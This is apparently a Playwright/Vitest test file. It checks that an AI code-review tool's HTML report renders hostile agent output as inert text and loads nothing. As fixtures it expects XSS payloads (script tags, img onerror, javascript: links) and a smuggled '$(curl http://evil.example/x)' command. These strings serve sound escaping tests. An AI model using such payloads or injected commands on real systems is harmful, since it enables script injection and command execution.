import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { pathToFileURL } from "node:url";
import type { Browser, Locator, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { renderHtml } from "../../../src/scenarios/reporters/html.js";
import { chromiumAvailable, launchChromium, MISSING, runBrowserTests } from "../../helpers/chromium.js";
import { REPORT } from "./fixtures.js";

/**
 * The HTML report as a reader sees it, in headless Chromium (Debian's package; playwright-core
 * never downloads a browser). Where the machine has no Chromium the tests are skipped, loudly;
 * in CI (CI=true) that is a failure instead.
 */

const available = chromiumAvailable;
/** Where the test leaves a screenshot of the report, for a person to look at. */
const SCREENSHOT = "/tmp/crosscheck-report.png";

if (!available) console.warn(`HTML report browser tests skipped: ${MISSING}`);

const run = runBrowserTests;

/** The text a reader sees in `locator` (rendered text: hidden elements and collapsed sections left out). */
function visibleText(locator: Locator): Promise<string> {
  // biome-ignore lint/performance/useDomNodeTextContent: Playwright's Locator.innerText, and the rendered text is the point
  return locator.innerText();
}

interface Visit {
  page: Page;
  url: string;
  requests: string[];
  dialogs: string[];
  errors: string[];
}

describe.skipIf(!run)(`the HTML report in Chromium${available ? "" : ` (skipped: ${MISSING})`}`, () => {
  let browser: Browser;
  let dir: string;
  let file: string;

  beforeAll(async () => {
    if (!available) throw new Error(MISSING);
    dir = mkdtempSync(path.join(os.tmpdir(), "crosscheck-html-"));
    file = path.join(dir, "report.html");
    writeFileSync(file, renderHtml(REPORT));
    browser = await launchChromium();
  });

  afterAll(async () => {
    await browser?.close();
    if (dir !== undefined) rmSync(dir, { recursive: true, force: true });
  });

  /** Opens the report, recording every request, dialog and page error. `bypassCSP` tests the escaping alone. */
  async function visit(options: { bypassCSP: boolean }): Promise<Visit> {
    const context = await browser.newContext({
      bypassCSP: options.bypassCSP,
      viewport: { width: 1280, height: 900 },
    });
    const page = await context.newPage();
    const url = pathToFileURL(file).href;
    const seen: Visit = { page, url, requests: [], dialogs: [], errors: [] };
    page.on("request", (r) => seen.requests.push(r.url()));
    page.on("dialog", (d) => {
      seen.dialogs.push(d.message());
      void d.dismiss();
    });
    page.on("pageerror", (e) => seen.errors.push(e.message));
    await page.goto(url, { waitUntil: "load" });
    // Give anything an injected element might start (an onerror handler, a fetch) a moment to run.
    await page.waitForTimeout(200);
    return seen;
  }

  for (const bypassCSP of [false, true]) {
    const how = bypassCSP ? "with its CSP switched off (escaping alone)" : "under its CSP";
    it(`runs nothing and loads nothing from agent text ${how}`, async () => {
      const { page, url, requests, dialogs, errors } = await visit({ bypassCSP });
      expect(dialogs).toEqual([]);
      expect(errors).toEqual([]);
      expect(requests).toEqual([url]);
      expect(await page.locator("script").count()).toBe(0);
      expect(await page.locator("img, iframe, object, embed, link, base, form").count()).toBe(0);
      const handlers = await page.locator("*").evaluateAll((elements) =>
        elements.flatMap((el) =>
          Array.from(el.attributes)
            .filter((a) => a.name.startsWith("on"))
            .map((a) => `${el.tagName} ${a.name}`),
        ),
      );
      expect(handlers).toEqual([]);
      const links = await page
        .locator("a")
        .evaluateAll((anchors) => anchors.map((a) => a.getAttribute("href")));
      expect(links.filter((href) => !href?.startsWith("#"))).toEqual([]);
      await page.context().close();
    });
  }

  it("shows hostile worker output, rationale, finding and evidence as text", async () => {
    const { page } = await visit({ bypassCSP: false });
    // Expand every section, as a reader clicking through would.
    await page.locator("details").evaluateAll((sections) => {
      for (const d of sections) d.setAttribute("open", "");
    });
    const text = await visibleText(page.locator("body"));
    expect(text).toContain('"patch": "<script>alert(1)</script>"');
    expect(text).toContain('"note": "<img src=x onerror=alert(2)>"');
    expect(text).toContain(`done ' " & </pre><b>bold</b>`);
    expect(text).toContain("</pre></details><script>alert(4)</script>");
    expect(text).toContain('$(curl http://evil.example/x) <iframe src="http://evil.example">');
    expect(text).toContain('<a href="javascript:alert(5)">manual</a>');
    expect(text).toContain("<style>body{display:none}</style> confirmed injection");
    expect(text).toContain(`<script>alert("name")</script> ]]> 'single' "double" & \uFFFD\uFFFD\uFFFD end`);
    expect(text).toContain("code review & <injection>");
    expect(await page.locator("b").count()).toBe(0);
    await page.context().close();
  });

  it("shows a failed case's failures without a click", async () => {
    const { page } = await visit({ bypassCSP: false });
    for (const failure of [
      "expected decision rejected, got accepted",
      "expected finding receipt.total-mismatch, none found",
      "expected decision rejected, got accepted: <img src=x onerror=alert(3)> ]]> \uFFFD",
    ]) {
      await expect.poll(() => page.getByText(failure, { exact: true }).first().isVisible()).toBe(true);
    }
    // The failed case is open; the passed one is not.
    expect(await page.locator("details.case.failed[open]").count()).toBe(2);
    expect(await page.locator("details.case.passed[open]").count()).toBe(0);
    await page.context().close();
  });

  it("shows the metrics of the run and of each suite", async () => {
    const { page } = await visit({ bypassCSP: false });
    const header = await visibleText(page.locator("header"));
    for (const value of [
      "50.0%",
      "26.7%",
      "1.60 s",
      "p95 7.00 s",
      "tokens 6,000 in · 1,200 out",
      "$0.0489",
    ]) {
      expect(header).toContain(value);
    }
    const receipts = await visibleText(page.locator("#suite-0"));
    for (const value of ["1 passed", "1 failed", "1 unstable", "11.1%", "203 ms", "p95 310 ms", "0 / 1"]) {
      expect(receipts).toContain(value);
    }
    const families = await visibleText(page.locator("#suite-0 table.families tbody tr"));
    expect(families.split("\t")).toEqual(["receipt", "0.0%", "0 / 1", "0.0%", "0 / 1"]);
    const rows = await page.locator("#suite-0 table.cases tbody tr").allInnerTexts();
    expect(rows.map((r) => r.split("\t")[0])).toEqual(["PASSED", "FAILED", "UNSTABLE"]);
    expect(rows[2]).toContain("accepted 2/3, escalated 1/3");
    await page.context().close();
  });

  it("shows the escalated case's timeline: both rounds, the cross-examination, the escalation and the human", async () => {
    const { page } = await visit({ bypassCSP: false });
    const escalated = page.locator("#case-1-1");
    await escalated.locator("summary").first().click();
    const text = await visibleText(escalated);
    const order = [
      "Worker output",
      "Evidence retrieved",
      "Verdicts",
      "template literal reaches exec",
      "Cross-examination, round 1",
      "disagreeing: model-reviewer, static-analysis",
      "Verdicts, round 1",
      "OS command injection via dir (confirmed)",
      "Decision: ESCALATED",
      "auditors disagree after 1 round",
      "Escalated to a human",
      "queue security",
      "Human decision: REJECTED",
      "by dana@example.com (authenticated by oidc:dana)",
      "Case ended: REJECTED",
    ];
    const positions = order.map((s) => text.indexOf(s));
    expect(positions.filter((p) => p === -1)).toEqual([]);
    expect([...positions].sort((a, b) => a - b)).toEqual(positions);
    expect(text).toContain("src/clean.ts:3:5");
    expect(text).toContain("ev-cwe-78");
    expect(text).toContain("f".repeat(64));
    await page.screenshot({ path: SCREENSHOT, fullPage: true });
    await page.context().close();
  });
});
